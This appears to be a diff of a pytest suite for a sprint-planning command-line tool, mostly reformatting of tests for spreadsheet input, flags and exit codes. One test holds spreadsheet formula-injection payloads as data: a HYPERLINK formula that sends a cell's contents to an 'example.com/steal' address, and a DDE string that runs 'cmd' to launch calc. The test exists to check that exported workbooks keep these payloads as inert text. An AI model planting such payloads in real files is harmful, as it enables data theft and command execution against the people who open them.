@@ -9,16 +9,26 @@ from pathlib import Path
 
 import openpyxl
 import pytest
-
 from conftest import REPO, write_xlsx
+
 from planner import cli
 from planner.cli import main
 from planner.ingest import read_backlog, read_capacity
 
 SAMPLE_BACKLOG = REPO / "data" / "sample_backlog.xlsx"
 SAMPLE_CAPACITY = REPO / "data" / "sample_capacity.xlsx"
-JSON_KEYS = {"status", "objective", "bound", "gap", "baseline_objective", "selected", "excluded", "capacity",
-             "seconds", "message"}
+JSON_KEYS = {
+    "status",
+    "objective",
+    "bound",
+    "gap",
+    "baseline_objective",
+    "selected",
+    "excluded",
+    "capacity",
+    "seconds",
+    "message",
+}
 SAMPLE = ["plan", "--backlog", str(SAMPLE_BACKLOG), "--capacity", str(SAMPLE_CAPACITY)]
 
 
@@ -46,10 +56,13 @@ def write_csv(path: Path, rows: list[list[object]]) -> Path:
 
 def tiny_capacity(folder: Path, days: float = 10, teams: tuple[str, ...] = ("pod-a",)) -> Path:
     """One person per team with ``days`` per sprint, one sprint of 10 working days."""
-    return write_xlsx(folder / "capacity.xlsx", {
-        "people": [["name", "team", "days_per_sprint"], *[[f"Dev {t}", t, days] for t in teams]],
-        "sprints": [["sprint", "start", "end"], ["Sprint 1", "2026-01-05", "2026-01-16"]],
-    })
+    return write_xlsx(
+        folder / "capacity.xlsx",
+        {
+            "people": [["name", "team", "days_per_sprint"], *[[f"Dev {t}", t, days] for t in teams]],
+            "sprints": [["sprint", "start", "end"], ["Sprint 1", "2026-01-05", "2026-01-16"]],
+        },
+    )
 
 
 # --------------------------------------------------------------------------------------------------
@@ -108,7 +121,9 @@ def test_sample_objective_is_the_sum_of_the_selected_values(capsys):
     code, out, _ = run(capsys, *SAMPLE, "--json")
     assert code == 0
     payload = one_json(out)
-    values = dict(zip(read_backlog(SAMPLE_BACKLOG).table["id"].astype(str), read_backlog(SAMPLE_BACKLOG).table["value"]))
+    values = dict(
+        zip(read_backlog(SAMPLE_BACKLOG).table["id"].astype(str), read_backlog(SAMPLE_BACKLOG).table["value"])
+    )
     assert payload["objective"] == pytest.approx(sum(values[row["id"]] for row in payload["selected"]))
 
 
@@ -171,8 +186,16 @@ def test_focus_factor_default_is_the_teams_sheet(capsys):
 def test_help_names_the_defaults(capsys):
     code, out, _ = run(capsys, "plan", "--help")
     assert code == 0
-    for text in ("--backlog", "--capacity", "--sprints", "(default: 1)", "(default: 30)", "(default: 0.0001)",
-                 "(default: days)", "teams sheet"):
+    for text in (
+        "--backlog",
+        "--capacity",
+        "--sprints",
+        "(default: 1)",
+        "(default: 30)",
+        "(default: 0.0001)",
+        "(default: days)",
+        "teams sheet",
+    ):
         assert text in out
 
 
@@ -181,12 +204,15 @@ def test_help_names_the_defaults(capsys):
 
 
 def test_duplicate_id_and_negative_effort(capsys, tmp_path):
-    backlog = write_csv(tmp_path / "backlog.csv", [
-        ["id", "title", "team", "effort"],
-        ["A-1", "First", "pod-a", 2],
-        ["A-1", "Again", "pod-a", 1],
-        ["A-3", "Negative", "pod-a", -4],
-    ])
+    backlog = write_csv(
+        tmp_path / "backlog.csv",
+        [
+            ["id", "title", "team", "effort"],
+            ["A-1", "First", "pod-a", 2],
+            ["A-1", "Again", "pod-a", 1],
+            ["A-3", "Negative", "pod-a", -4],
+        ],
+    )
     capacity = tiny_capacity(tmp_path)
     code, out, err = run(capsys, "plan", "--backlog", str(backlog), "--capacity", str(capacity))
     assert code == 2
@@ -207,9 +233,12 @@ def test_duplicate_id_and_negative_effort(capsys, tmp_path):
 
 def test_capacity_error_names_sheet_row_column(capsys, tmp_path):
     backlog = write_csv(tmp_path / "backlog.csv", [["id", "title", "effort"], ["A-1", "One", 1]])
-    capacity = write_xlsx(tmp_path / "capacity.xlsx", {
-        "people": [["name", "team", "allocation"], ["Ada", "pod-a", 1], ["Bob", "pod-a", "150%"]],
-    })
+    capacity = write_xlsx(
+        tmp_path / "capacity.xlsx",
+        {
+            "people": [["name", "team", "allocation"], ["Ada", "pod-a", 1], ["Bob", "pod-a", "150%"]],
+        },
+    )
     code, out, err = run(capsys, "plan", "--backlog", str(backlog), "--capacity", str(capacity), "--json")
     assert code == 2
     assert one_json(out)["status"] == "error"
@@ -217,23 +246,27 @@ def test_capacity_error_names_sheet_row_column(capsys, tmp_path):
 
 
 def test_missing_file(capsys, tmp_path):
-    code, out, err = run(capsys, "plan", "--backlog", str(tmp_path / "nope.csv"),
-                         "--capacity", str(tiny_capacity(tmp_path)))
+    code, out, err = run(
+        capsys, "plan", "--backlog", str(tmp_path / "nope.csv"), "--capacity", str(tiny_capacity(tmp_path))
+    )
     assert code == 2 and out == ""
     assert "error: nope.csv: cannot open the file" in err
 
 
-@pytest.mark.parametrize(("flags", "named"), [
-    (["--buffer", "2"], "--buffer"),
-    (["--focus-factor", "0"], "--focus-factor"),
-    (["--oncall-load", "-1"], "--oncall-load"),
-    (["--sprints", "0"], "--sprints"),
-    (["--gap", "1.5"], "gap"),
-    (["--time-limit", "0"], "time limit"),
-    (["--solver", "gurobi"], "--solver"),
-    (["--sprints", "two"], "--sprints"),
-    (["--out", "plan.csv"], "--out"),
-])
+@pytest.mark.parametrize(
+    ("flags", "named"),
+    [
+        (["--buffer", "2"], "--buffer"),
+        (["--focus-factor", "0"], "--focus-factor"),
+        (["--oncall-load", "-1"], "--oncall-load"),
+        (["--sprints", "0"], "--sprints"),
+        (["--gap", "1.5"], "gap"),
+        (["--time-limit", "0"], "time limit"),
+        (["--solver", "gurobi"], "--solver"),
+        (["--sprints", "two"], "--sprints"),
+        (["--out", "plan.csv"], "--out"),
+    ],
+)
 def test_bad_flags(capsys, tmp_path, flags, named):
     code, out, err = run(capsys, *SAMPLE, *flags)
     assert code == 2, err
@@ -267,12 +300,15 @@ def test_out_never_overwrites_an_input(capsys, tmp_path):
 
 
 def test_infeasible_must_items(capsys, tmp_path):
-    backlog = write_csv(tmp_path / "backlog.csv", [
-        ["id", "title", "team", "effort", "moscow"],
-        ["M-1", "First must", "pod-a", 6, "Must"],
-        ["M-2", "Second must", "pod-a", 6, "Must"],
-        ["C-1", "A could", "pod-a", 1, "Could"],
-    ])
+    backlog = write_csv(
+        tmp_path / "backlog.csv",
+        [
+            ["id", "title", "team", "effort", "moscow"],
+            ["M-1", "First must", "pod-a", 6, "Must"],
+            ["M-2", "Second must", "pod-a", 6, "Must"],
+            ["C-1", "A could", "pod-a", 1, "Could"],
+        ],
+    )
     capacity = tiny_capacity(tmp_path, days=10)
     argv = ["plan", "--backlog", str(backlog), "--capacity", str(capacity)]
     code, out, err = run(capsys, *argv)
@@ -293,14 +329,18 @@ def test_infeasible_must_items(capsys, tmp_path):
 
 
 def test_must_items_that_fit_are_planned(capsys, tmp_path):
-    backlog = write_csv(tmp_path / "backlog.csv", [
-        ["id", "title", "team", "effort", "moscow", "value"],
-        ["M-1", "First must", "pod-a", 6, "Must", 1],
-        ["C-1", "A could", "pod-a", 4, "Could", 50],
-        ["C-2", "Another could", "pod-a", 5, "Could", 60],
-    ])
-    code, out, err = run(capsys, "plan", "--backlog", str(backlog), "--capacity", str(tiny_capacity(tmp_path)),
-                         "--json")
+    backlog = write_csv(
+        tmp_path / "backlog.csv",
+        [
+            ["id", "title", "team", "effort", "moscow", "value"],
+            ["M-1", "First must", "pod-a", 6, "Must", 1],
+            ["C-1", "A could", "pod-a", 4, "Could", 50],
+            ["C-2", "Another could", "pod-a", 5, "Could", 60],
+        ],
+    )
+    code, out, err = run(
+        capsys, "plan", "--backlog", str(backlog), "--capacity", str(tiny_capacity(tmp_path)), "--json"
+    )
     assert code == 0, err
     payload = one_json(out)
     assert payload["status"] == "optimal"
@@ -314,23 +354,46 @@ def test_must_items_that_fit_are_planned(capsys, tmp_path):
 
 
 def test_capacity_as_csv_files_or_a_folder(capsys, tmp_path):
-    backlog = write_csv(tmp_path / "backlog.csv", [
-        ["id", "title", "effort", "value"], ["A-1", "One", 3, 10], ["A-2", "Two", 3, 9], ["A-3", "Three", 3, 8],
-    ])
+    backlog = write_csv(
+        tmp_path / "backlog.csv",
+        [
+            ["id", "title", "effort", "value"],
+            ["A-1", "One", 3, 10],
+            ["A-2", "Two", 3, 9],
+            ["A-3", "Three", 3, 8],
+        ],
+    )
     folder = tmp_path / "capacity"
     folder.mkdir()
     people = write_csv(folder / "people.csv", [["name", "team", "days_per_sprint"], ["Ada", "pod-a", 6]])
-    sprints = write_csv(folder / "sprints.csv", [
-        ["sprint", "start", "end"], ["S1", "2026-01-05", "2026-01-16"], ["S2", "2026-01-19", "2026-01-30"],
-    ])
-    code, out, err = run(capsys, "plan", "--backlog", str(backlog), "--capacity", str(people),
-                         "--capacity", str(sprints), "--sprints", "2", "--json")
+    sprints = write_csv(
+        folder / "sprints.csv",
+        [
+            ["sprint", "start", "end"],
+            ["S1", "2026-01-05", "2026-01-16"],
+            ["S2", "2026-01-19", "2026-01-30"],
+        ],
+    )
+    code, out, err = run(
+        capsys,
+        "plan",
+        "--backlog",
+        str(backlog),
+        "--capacity",
+        str(people),
+        "--capacity",
+        str(sprints),
+        "--sprints",
+        "2",
+        "--json",
+    )
     assert code == 0, err
     by_files = one_json(out)
     assert {row["sprint"] for row in by_files["selected"]} == {"S1", "S2"}
     assert by_files["objective"] == pytest.approx(27)
-    code, out, err = run(capsys, "plan", "--backlog", str(backlog), "--capacity", str(folder), "--sprints", "2",
-                         "--json")
+    code, out, err = run(
+        capsys, "plan", "--backlog", str(backlog), "--capacity", str(folder), "--sprints", "2", "--json"
+    )
     assert code == 0, err
     by_folder = one_json(out)
     assert by_folder["selected"] == by_files["selected"]
@@ -351,15 +414,27 @@ def test_empty_capacity_folder(capsys, tmp_path):
 
 def test_out_workbook_keeps_formulas_as_text(capsys, tmp_path):
     link = '=HYPERLINK("http://example.com/steal?d="&A1,"Click me")'
-    backlog = write_csv(tmp_path / "backlog.csv", [
-        ["id", "title", "team", "effort", "value"],
-        ["A-1", link, "pod-a", 2, 10],
-        ["@A-2", "+cmd|' /C calc'!A0", "pod-a", 2, 9],
-        ["A-3", "-2+3", "pod-a", 20, 8],
-    ])
+    backlog = write_csv(
+        tmp_path / "backlog.csv",
+        [
+            ["id", "title", "team", "effort", "value"],
+            ["A-1", link, "pod-a", 2, 10],
+            ["@A-2", "+cmd|' /C calc'!A0", "pod-a", 2, 9],
+            ["A-3", "-2+3", "pod-a", 20, 8],
+        ],
+    )
     out_path = tmp_path / "plan.xlsx"
-    code, out, err = run(capsys, "plan", "--backlog", str(backlog), "--capacity", str(tiny_capacity(tmp_path)),
-                         "--out", str(out_path), "--json")
+    code, out, err = run(
+        capsys,
+        "plan",
+        "--backlog",
+        str(backlog),
+        "--capacity",
+        str(tiny_capacity(tmp_path)),
+        "--out",
+        str(out_path),
+        "--json",
+    )
     assert code == 0, err
     payload = one_json(out)
     assert {row["id"] for row in payload["selected"]} == {"A-1", "@A-2"}
@@ -434,8 +509,9 @@ def test_unexpected_failure_is_one_line(capsys, monkeypatch):
 
 
 def test_error_status_of_the_library_exits_1(capsys, monkeypatch):
-    from planner.plan import make_plan as real_make_plan
     import dataclasses
+
+    from planner.solve.plan import make_plan as real_make_plan
 
     def failing(*args, **kwargs):
         result = real_make_plan(*args, **kwargs)
@@ -456,7 +532,10 @@ def test_error_status_of_the_library_exits_1(capsys, monkeypatch):
 def test_module_subprocess_prints_one_json_object(tmp_path):
     completed = subprocess.run(
         [sys.executable, "-m", "planner.cli", *SAMPLE, "--json"],
-        capture_output=True, text=True, cwd=tmp_path, timeout=300,
+        capture_output=True,
+        text=True,
+        cwd=tmp_path,
+        timeout=300,
     )
     assert completed.returncode == 0, completed.stderr
     payload = json.loads(completed.stdout)
@@ -469,7 +548,10 @@ def test_highs_keeps_stdout_clean(tmp_path):
     pytest.importorskip("highspy")
     completed = subprocess.run(
         [sys.executable, "-m", "planner.cli", *SAMPLE, "--json", "--solver", "highs"],
-        capture_output=True, text=True, cwd=tmp_path, timeout=300,
+        capture_output=True,
+        text=True,
+        cwd=tmp_path,
+        timeout=300,
     )
     assert completed.returncode == 0, completed.stderr
     payload = json.loads(completed.stdout)
@@ -478,13 +560,30 @@ def test_highs_keeps_stdout_clean(tmp_path):
 
 
 def test_infeasible_subprocess_exit_status(tmp_path):
-    backlog = write_csv(tmp_path / "backlog.csv", [
-        ["id", "title", "effort", "moscow"], ["M-1", "Too much", 30, "Must"], ["M-2", "Fits", 1, "Must"],
-    ])
+    backlog = write_csv(
+        tmp_path / "backlog.csv",
+        [
+            ["id", "title", "effort", "moscow"],
+            ["M-1", "Too much", 30, "Must"],
+            ["M-2", "Fits", 1, "Must"],
+        ],
+    )
     completed = subprocess.run(
-        [sys.executable, "-m", "planner.cli", "plan", "--backlog", str(backlog),
-         "--capacity", str(tiny_capacity(tmp_path)), "--json"],
-        capture_output=True, text=True, cwd=tmp_path, timeout=300,
+        [
+            sys.executable,
+            "-m",
+            "planner.cli",
+            "plan",
+            "--backlog",
+            str(backlog),
+            "--capacity",
+            str(tiny_capacity(tmp_path)),
+            "--json",
+        ],
+        capture_output=True,
+        text=True,
+        cwd=tmp_path,
+        timeout=300,
     )
     assert completed.returncode == 3, completed.stderr
     payload = json.loads(completed.stdout)
